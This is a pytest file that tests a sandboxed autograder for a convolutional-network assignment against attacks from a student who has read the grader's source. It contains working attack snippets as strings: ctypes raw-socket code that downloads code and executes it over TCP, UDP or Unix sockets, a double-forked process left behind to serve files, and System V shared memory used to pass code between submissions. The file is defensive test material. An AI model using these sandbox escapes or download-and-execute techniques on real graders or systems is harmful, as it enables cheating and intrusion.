"""Attacks of round 4 on the sandboxed grader: a student who read its source.

tests/test_grader_attacks.py and test_grader_attacks_2.py hold the earlier rounds (patching the
grader, crashes, limits, the reference read from disk, files built to crash the grader). These
are the holes the last review left open and what a student who read the grader's source tried
next. Each test failed before its fix; the submissions start from test_grader_attacks_2.py's
copies (im2col blank, relu solved) and are graded with its LIMITS.
"""

import os
import socket
import sys
import threading
import types

import numpy as np
import pytest
import test_grader_attacks_2 as earlier
from test_grader_attacks_2 import attacker, grade, points

from minivgg.assignment import make_assignment, runner, sandbox
from minivgg.assignment.checks import Case
from minivgg.assignment.make import REFERENCE_ROOT
from minivgg.assignment.parts import completed

copies, grader = earlier.copies, earlier.grader         # its fixtures: the copies, root or user

# ------------------------------------------------------------------------------------------------
# the network
# ------------------------------------------------------------------------------------------------

NETWORK_ABI = 4                     # Landlock's first ABI with TCP rules (Linux 6.7)


def needs_network_rules():
    abi = sandbox.landlock_abi()
    if abi < NETWORK_ABI:
        pytest.skip(f"this kernel's Landlock ABI is {abi}: TCP can be refused from ABI "
                    f"{NETWORK_ABI} (Linux 6.7) on; here the report says the network is open")


# At import, the student's naive.py fetches a solution from a server and runs it. The server is
# on 127.0.0.1 (a test must not go further), but one on the internet is reached the same way.
# Raw system calls through ctypes (which the runner has loaded): the jail holds no socket module.
FETCH = """
def _fetch(where):                                             # a port, or a path
    import ctypes, os, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)                                  # AF_INET, SOCK_STREAM
    address = struct.pack("=H", 2) + where.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    if fd < 0 or libc.connect(fd, address, len(address)) != 0:
        error = ctypes.get_errno()
        raise OSError(error, "connect: " + os.strerror(error))
    chunks = []
    while True:
        chunk = os.read(fd, 1 << 16)
        if not chunk:
            return b"".join(chunks).decode()
        chunks.append(chunk)


_downloaded = {"__name__": __name__, "__package__": __package__}
exec(_fetch(PORT), _downloaded)
im2col, col2im = _downloaded["im2col"], _downloaded["col2im"]
"""
# the same socket bound to a port: a server a later child (or anything on the machine) reaches
BIND = """
def im2col(x, kernel, stride, padding, out=None):
    import ctypes, os, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)
    address = struct.pack("=H", 2) + bytes(2) + bytes([127, 0, 0, 1]) + bytes(8)   # any port
    if fd < 0 or libc.bind(fd, address, len(address)) != 0:
        error = ctypes.get_errno()
        raise OSError(error, "bind: " + os.strerror(error))
    raise RuntimeError("bound a TCP port")
"""


def serving(text, kind="tcp", path=None):
    """A server that hands ``text`` to whoever asks: "tcp" on 127.0.0.1 to whoever connects,
    "udp" on 127.0.0.1 in answer to every datagram, "unix" at ``path`` to whoever connects;
    (its port, or its path, and stop)."""
    if kind == "unix":
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(str(path))
        server.listen()
    elif kind == "udp":
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("127.0.0.1", 0))
    else:
        server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    done, data = threading.Event(), text.encode()

    def answer():
        if kind == "udp":
            _, peer = server.recvfrom(64)
            server.sendto(data, peer)
        else:
            connection, _ = server.accept()
            with connection:
                connection.sendall(data)

    def serve():
        while not done.is_set():
            try:
                answer()
            except OSError:                     # a timeout: look at done again
                continue
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()

    def stop():
        done.set()
        thread.join()
        server.close()
    return (path if kind == "unix" else server.getsockname()[1]), stop


def test_a_child_cannot_download_a_solution(copies, tmp_path, grader):
    needs_network_rules()
    port, stop = serving((REFERENCE_ROOT / "minivgg/kernels/naive.py").read_text())
    try:
        report, blank = grade([attacker(copies, tmp_path, FETCH.replace("PORT", str(port))),
                               copies / "blank"])
    finally:
        stop()
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message and "connect" in \
        report.results[0].message, str(report)
    assert not any("network" in note for note in report.notes), report.notes
    assert blank.score == 0


def test_a_child_cannot_open_a_server(copies, tmp_path, grader):
    needs_network_rules()
    (report,) = grade([attacker(copies, tmp_path, BIND)])
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message and "bind" in \
        report.results[0].message, str(report)


@pytest.mark.parametrize("platform, maxsize", [("darwin", sys.maxsize), ("linux", 2**31 - 1)])
def test_no_filter_where_the_calls_are_not_the_tables(monkeypatch, platform, maxsize):
    """An Intel Mac (the self-check) says "x86_64" too but has no prctl; a 32-bit Python on a
    64-bit kernel makes another arch's calls, every one of which the filter would refuse."""
    if runner.seccomp_arch() is None:
        pytest.skip(f"no filter for {os.uname().machine} here")
    monkeypatch.setattr(runner, "sys", types.SimpleNamespace(platform=platform, maxsize=maxsize))
    assert runner.seccomp_arch() is None


def test_a_mac_asks_no_linux_call_and_sets_no_memory_limit_it_cannot_measure(monkeypatch):
    """On macOS (a student's self-check) Linux's Landlock call number 444 is another call, and
    /proc/self/status is missing: every part exited before it ran."""
    monkeypatch.setattr(runner, "sys", types.SimpleNamespace(platform="darwin", maxsize=sys.maxsize))
    assert runner.landlock_abi() == 0

    def no_proc(path, *args, **kwargs):
        raise FileNotFoundError(path)
    monkeypatch.setattr(runner, "open", no_proc, raising=False)
    assert runner._memory_in_use() is None


def test_landlock_alone_refuses_tcp():
    """The second wall, on its own: a process Landlock confined can neither connect nor bind."""
    needs_network_rules()
    from minivgg.assignment.runner import confine
    port, stop = serving("")
    try:
        pid = os.fork()
        if pid == 0:                                            # the child: confine, then try
            code = 0
            try:
                confine([], [])
                for attempt in (lambda: socket.create_connection(("127.0.0.1", port), timeout=5),
                                lambda: socket.create_server(("127.0.0.1", 0))):
                    try:
                        attempt().close()
                        code |= 1                               # got through
                    except PermissionError:
                        pass
            except BaseException:
                code = 2
            os._exit(code)
        _, status = os.waitpid(pid, 0)
    finally:
        stop()
    assert os.waitstatus_to_exitcode(status) == 0, status


# The same over UDP, which Landlock does not cover: the request could carry the inputs to a server
# that answers with the reference's outputs.
FETCH_UDP = """
def _fetch(port):
    import ctypes, os, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 2, 0)                                  # AF_INET, SOCK_DGRAM
    if fd < 0:
        error = ctypes.get_errno()
        raise OSError(error, "socket: " + os.strerror(error))
    timeout = struct.pack("=qq", 5, 0)
    libc.setsockopt(fd, 1, 20, timeout, len(timeout))          # SO_RCVTIMEO
    address = struct.pack("=H", 2) + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    libc.sendto(fd, b"?", 1, 0, address, len(address))
    buffer = ctypes.create_string_buffer(1 << 16)
    got = libc.recv(fd, buffer, 1 << 16, 0)
    if got <= 0:
        raise OSError(ctypes.get_errno(), "no answer")
    return buffer.raw[:got].decode()


_downloaded = {"__name__": __name__, "__package__": __package__}
exec(_fetch(PORT), _downloaded)
im2col, col2im = _downloaded["im2col"], _downloaded["col2im"]
"""


def test_a_child_cannot_download_a_solution_over_udp(copies, tmp_path, grader):
    if sandbox.seccomp_arch() is None:
        pytest.skip(f"no socket filter for this machine ({os.uname().machine}): only Landlock's TCP "
                    f"rules, and the report says the network is open")
    port, stop = serving((REFERENCE_ROOT / "minivgg/kernels/naive.py").read_text(), "udp")
    try:
        (report,) = grade([attacker(copies, tmp_path, FETCH_UDP.replace("PORT", str(port)))])
    finally:
        stop()
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message and "socket" in \
        report.results[0].message, str(report)


# A Unix socket by its path: a service of the machine (here a test's) outside the child's folders.
FETCH_UNIX = (FETCH.replace("socket(2, 1, 0)                                  # AF_INET",
                                "socket(1, 1, 0)                                  # AF_UNIX")
              .replace('struct.pack("=H", 2) + where.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)',
                       'struct.pack("=H", 1) + where.encode() + bytes(108 - len(where))')
              .replace("_fetch(PORT)", "_fetch(PATH)"))
assert all(text in FETCH_UNIX for text in ("AF_UNIX", "where.encode()", "_fetch(PATH)"))


def test_a_child_cannot_reach_a_unix_socket_of_the_machine(copies, tmp_path, grader):
    if sandbox.seccomp_arch() is None:
        pytest.skip(f"no socket filter for this machine ({os.uname().machine})")
    path, stop = serving((REFERENCE_ROOT / "minivgg/kernels/naive.py").read_text(), "unix",
                         tmp_path / "service.sock")
    try:
        (report,) = grade([attacker(copies, tmp_path, FETCH_UNIX.replace("PATH", repr(str(path))))])
    finally:
        stop()
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message, str(report)


@pytest.mark.parametrize("abi, said", [(NETWORK_ABI - 1, "this kernel has Landlock ABI 3"),
                                       (NETWORK_ABI, "Landlock refuses TCP only")])
def test_a_report_says_when_the_network_was_open(copies, monkeypatch, abi, said):
    """Where the grader has no socket filter for the machine (only x86_64 and aarch64)."""
    monkeypatch.setattr(sandbox, "landlock_abi", lambda: abi)
    monkeypatch.setattr(sandbox, "seccomp_arch", lambda: None)
    (report,) = grade([copies / "blank"], parts=["relu"])
    assert any("could use the network" in note and said in note for note in report.notes), \
        report.notes
    monkeypatch.undo()
    (report,) = grade([copies / "blank"], parts=["relu"])
    assert not any("network" in note for note in report.notes), report.notes


@pytest.mark.parametrize("kind", ["tcp", "udp", "unix"])
def test_the_fetch_attack_works_where_nothing_refuses_it(tmp_path, kind):
    """The attacks and their servers are sound: run in this process, each gets the solution."""
    where, stop = serving("def im2col():\n    return 'downloaded'\ncol2im = None\n", kind,
                          tmp_path / "service.sock")
    attack = {"tcp": FETCH.replace("PORT", str(where)), "udp": FETCH_UDP.replace("PORT", str(where)),
              "unix": FETCH_UNIX.replace("PATH", repr(str(where)))}[kind]
    try:
        namespace = {"__name__": "x", "__package__": None}
        exec(attack, namespace)
    finally:
        stop()
    assert namespace["im2col"]() == "downloaded"


# ------------------------------------------------------------------------------------------------
# a part done by calling another part's solved code
# ------------------------------------------------------------------------------------------------

# A part left out of the assignment stays solved in the copy: where it computes an assigned part's
# answer, calling it earned that part (10/10, 15/15 and 6/15 of the three below, before make
# refused such an assignment). part -> (file, code appended to it).
CALLING = {
    # im2col and one matrix product
    "conv_direct": ("kernels/naive.py", """def conv2d_direct(x, weight, bias, stride, padding):
    F, C, kh, kw = weight.shape
    cols = im2col(x, (kh, kw), stride, padding)
    N, H, W = len(x), x.shape[2], x.shape[3]
    OH, OW = (H + 2 * padding[0] - kh) // stride[0] + 1, (W + 2 * padding[1] - kw) // stride[1] + 1
    return (weight.reshape(F, -1) @ cols + bias[:, None]).reshape(N, F, OH, OW)
"""),
    # the direct convolution with one-hot weights copies each window; col2im is the same
    # convolution, transposed, of the columns spread out by the stride
    "im2col": ("kernels/naive.py", """def _onehot(C, kh, kw, dtype):
    w = np.zeros((C * kh * kw, C, kh, kw), dtype)
    for c in range(C):
        for i in range(kh):
            for j in range(kw):
                w[(c * kh + i) * kw + j, c, i, j] = 1
    return w


def im2col(x, kernel, stride, padding, out=None):
    (kh, kw), C = kernel, x.shape[1]
    y = conv2d_direct(x, _onehot(C, kh, kw, x.dtype), np.zeros(C * kh * kw, x.dtype), stride, padding)
    cols = y.reshape(len(x), C * kh * kw, -1).astype(x.dtype)
    if out is None:
        return cols
    out[...] = cols
    return out


def col2im(cols, x_shape, kernel, stride, padding, out=None):
    (N, C, H, W), (kh, kw), (sh, sw), (ph, pw) = x_shape, kernel, stride, padding
    OH, OW = (H + 2 * ph - kh) // sh + 1, (W + 2 * pw - kw) // sw + 1
    d = np.zeros((N, C * kh * kw, (OH - 1) * sh + 1, (OW - 1) * sw + 1), cols.dtype)
    d[:, :, ::sh, ::sw] = cols.reshape(N, -1, OH, OW)
    w = _onehot(C, kh, kw, cols.dtype)[:, :, ::-1, ::-1].transpose(1, 0, 2, 3).copy()
    z = conv2d_direct(d, w, np.zeros(C, cols.dtype), (1, 1), (kh - 1, kw - 1))
    full = np.zeros((N, C, H + 2 * ph, W + 2 * pw), cols.dtype)
    a, b = min(z.shape[2], full.shape[2]), min(z.shape[3], full.shape[3])
    full[:, :, :a, :b] = z[:, :, :a, :b]
    dx = full[:, :, ph:ph + H, pw:pw + W].astype(cols.dtype)
    if out is None:
        return dx
    out[...] = dx
    return out
"""),
    # the layer's forward is the direct convolution
    "conv_layer": ("conv/im2col.py", """from ..kernels.naive import conv2d_direct as _direct


def _forward(self, x, weight, bias):
    self._x_shape = x.shape
    return _direct(x, weight, bias, self.stride, self.padding)


Im2col.forward = _forward
"""),
}


@pytest.mark.parametrize("part", sorted(CALLING))
def test_a_part_cannot_be_done_by_calling_another_parts_solved_code(tmp_path, part):
    with pytest.raises(ValueError, match=f"--only {part}: {part} needs .* assign --only "
                                         f"{','.join(completed([part]))}"):
        make_assignment(tmp_path / "alone", only=[part])
    assert not (tmp_path / "alone").exists()
    sub = tmp_path / "attacker"
    make_assignment(sub, only=completed([part]))          # what make asks for: both blank
    file, code = CALLING[part]
    with open(sub / "minivgg" / file, "a") as f:
        f.write("\n\n" + code)
    (report,) = grade([sub], parts=[part])
    assert report.score == 0, report.text(checks=True)
    assert report.results[0].message.startswith("not implemented yet"), str(report)


@pytest.mark.parametrize("part", ["conv_direct", "im2col"])
def test_the_calling_attacks_work_on_the_solved_code(part):
    """The attacks are sound: on the reference's own functions they give the right answers."""
    from minivgg.kernels import naive
    space = vars(naive).copy()                  # the solved module, the attack's code on top
    exec(CALLING[part][1], space)
    rng = np.random.default_rng(0)
    x = rng.standard_normal((2, 3, 7, 6))
    weight, bias = rng.standard_normal((4, 3, 3, 2)), rng.standard_normal(4)
    geometry = ((3, 2), (2, 1), (1, 0))
    dcols = rng.standard_normal(naive.im2col(x, *geometry).shape)
    for name, args in (("conv2d_direct", (x, weight, bias, *geometry[1:])),
                       ("im2col", (x, *geometry)), ("col2im", (dcols, x.shape, *geometry))):
        assert np.allclose(space[name](*args), getattr(naive, name)(*args)), name


# ------------------------------------------------------------------------------------------------
# limits no part can meet: the instructor's error, not every student's zero
# ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("option, value, minimum", [
    ("--memory", str((sandbox.MIN_MEMORY >> 20) - 1), f"{sandbox.MIN_MEMORY >> 20} MiB"),
    ("--memory", "1", f"{sandbox.MIN_MEMORY >> 20} MiB"),
    ("--timeout", "0.05", f"{sandbox.MIN_SECONDS:g} s")])
def test_an_impossible_limit_is_refused_naming_the_option_and_its_minimum(copies, capsys, option,
                                                                         value, minimum):
    assert earlier.grading.grade_main([str(copies / "relu"), option, value]) == 2
    error = capsys.readouterr().err
    assert f"{option} {value}:" in error and f"at least {minimum}" in error, error


def test_the_reference_passes_every_part_at_the_minimum_limits():
    """The minimum is enough for the grader's own child: the reference, graded as a student."""
    limits = sandbox.Limits(seconds=60, cpu=30, memory=sandbox.MIN_MEMORY)
    report = earlier.grading.grade([REFERENCE_ROOT], limits=limits)[0]
    assert report.score == report.max_score, report.text()


# ------------------------------------------------------------------------------------------------
# a process left behind
# ------------------------------------------------------------------------------------------------

# Student A solved im2col; at import, A's code leaves a process behind (two forks and setsid: out
# of its part's process group) that hands A's file to whoever asks over UDP, which Landlock does
# not cover. B handed in nothing: B's im2col asks for A's file. Raw system calls, as in FETCH.
UDP = """
import ctypes as _ctypes
import os as _os
import struct as _struct

_libc = _ctypes.CDLL(None, use_errno=True)
_ADDRESS = _struct.pack("=H", 2) + (PORT).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)


def _udp(seconds):
    fd = _libc.socket(2, 2, 0)                                      # AF_INET, SOCK_DGRAM
    timeout = _struct.pack("=qq", seconds, 0)
    _libc.setsockopt(fd, 1, 20, timeout, len(timeout))              # SO_RCVTIMEO
    return fd
"""
LEAVE_BEHIND = UDP + """

def _serve(text):
    fd = _udp(1)
    if _libc.bind(fd, _ADDRESS, len(_ADDRESS)) != 0:
        return
    buffer, peer, size = _ctypes.create_string_buffer(64), _ctypes.create_string_buffer(16), \\
        _ctypes.c_uint32(16)
    for _ in range(30):                                             # 30 s at most
        if _libc.recvfrom(fd, buffer, 64, 0, peer, _ctypes.byref(size)) > 0:
            _libc.sendto(fd, text, len(text), 0, peer, size.value)


with open(__file__, "rb") as _mine:
    _text = _mine.read()
try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _serve(_text)
        _os._exit(0)
except OSError:                                  # no new processes (the jail): A's own grade only
    pass
"""
TAKE_FROM_BEHIND = UDP + """

def _ask():
    fd = _udp(2)
    _libc.sendto(fd, b"?", 1, 0, _ADDRESS, len(_ADDRESS))
    buffer = _ctypes.create_string_buffer(1 << 16)
    got = _libc.recv(fd, buffer, 1 << 16, 0)
    if got <= 0:
        raise NotImplementedError("nobody left behind")
    space = {"__name__": __name__, "__package__": __package__, "__file__": __file__}
    exec(buffer.raw[:got].decode().replace("_os.fork()", "1"), space)   # (no server of its own)
    return space


_theirs = _ask()
im2col, col2im = _theirs["im2col"], _theirs["col2im"]
"""


def test_no_process_outlives_its_part(copies, tmp_path, grader):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:   # a free UDP port
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    helper = attacker(copies, tmp_path, LEAVE_BEHIND.replace("PORT", str(port)), name="a_helper",
                      start="im2col")
    taker = attacker(copies, tmp_path, TAKE_FROM_BEHIND.replace("PORT", str(port)),
                     name="b_taker")
    report_a, report_b = grade([helper, taker])
    assert points(report_a)["im2col"] == 15, str(report_a)               # A's own work counts
    assert points(report_b) == {"im2col": 0, "relu": 5}, str(report_b)
    assert "nobody left behind" in report_b.results[0].message, str(report_b)


# The socket filter now closes the UDP channel above whether or not the server sweeps: this one
# needs no channel. The child leaves a sleeper (setsid, two forks) and writes its pid in its HOME.
SLEEPER = """
import os


def leave():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        sleeper = os.fork()
        if sleeper == 0:
            hold, _ = os.pipe()
            os.read(hold, 1)                     # forever: the write end stays open here
        with open(os.path.join(os.environ["HOME"], "sleeper"), "w") as f:
            f.write(str(sleeper))
        os._exit(0)
    os.waitpid(pid, 0)
    return 0
"""


def test_the_server_kills_what_a_part_left_outside_its_group(tmp_path, monkeypatch):
    if os.geteuid() != 0 or not sys.platform.startswith("linux"):
        pytest.skip("only a child running as root can start a process (RLIMIT_NPROC)")
    monkeypatch.setattr(sandbox, "_user", lambda: None)          # not jailed: root, may fork
    (tmp_path / "minivgg").mkdir()
    (tmp_path / "minivgg" / "sleeper.py").write_text(SLEEPER)
    case = Case("a sleeper left behind")
    case.step("import", "m", "sleeper").run("y", "m.leave")
    sleeper = None
    try:
        with sandbox.Sandbox(earlier.LIMITS) as box:
            outcome = box.run(box.new_submission(tmp_path / "minivgg"), [case])
            assert outcome.status == "finished" and outcome.results[0]["saved"] == ["y"], outcome
            sleeper = int((outcome.out_dir.parent / "home" / "sleeper").read_text())
            assert not os.path.exists(f"/proc/{sleeper}"), "the sleeper outlived its part"
    finally:
        if sleeper and os.path.exists(f"/proc/{sleeper}"):
            os.kill(sleeper, 9)

# ------------------------------------------------------------------------------------------------
# System V shared memory: outside every folder, and it outlives its process
# ------------------------------------------------------------------------------------------------

# A leaves its file in a segment under a key both know; B's im2col is what the segment holds.
SHM = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
"""
SHM_LEAVE = SHM + """
with open(__file__, "rb") as _mine:
    _text = _mine.read()
_id = _libc.shmget(KEY, 1 << 16, 0o1000 | 0o666)                      # IPC_CREAT, rw for all
if _id >= 0 and "_taken" not in globals():
    _ctypes.memmove(_libc.shmat(_id, None, 0), _text + bytes(1), len(_text) + 1)
"""
SHM_TAKE = SHM + """
_id = _libc.shmget(KEY, 0, 0)
if _id < 0:
    raise OSError(_ctypes.get_errno(), "shmget refused")
_space = {"__name__": __name__, "__package__": __package__, "__file__": __file__, "_taken": 1}
exec(_ctypes.string_at(_libc.shmat(_id, None, 0)).decode(), _space)
im2col, col2im = _space["im2col"], _space["col2im"]
"""


def test_a_submission_cannot_pass_code_to_the_next_through_shared_memory(copies, tmp_path,
                                                                         grader):
    if sandbox.seccomp_arch() is None:
        pytest.skip(f"no system call filter for this machine ({os.uname().machine})")
    key = int.from_bytes(os.urandom(3), "big") + 1
    helper = attacker(copies, tmp_path, SHM_LEAVE.replace("KEY", str(key)), name="a_helper",
                      start="im2col")
    taker = attacker(copies, tmp_path, SHM_TAKE.replace("KEY", str(key)), name="b_taker")
    try:
        report_a, report_b = grade([helper, taker])
    finally:
        import ctypes
        libc = ctypes.CDLL(None)
        segment = libc.shmget(key, 0, 0)
        if segment >= 0:
            libc.shmctl(segment, 0, None)                              # IPC_RMID
    assert points(report_a)["im2col"] == 15, str(report_a)               # A's own work counts
    assert points(report_b) == {"im2col": 0, "relu": 5}, str(report_b)
    assert "PermissionError" in report_b.results[0].message, str(report_b)
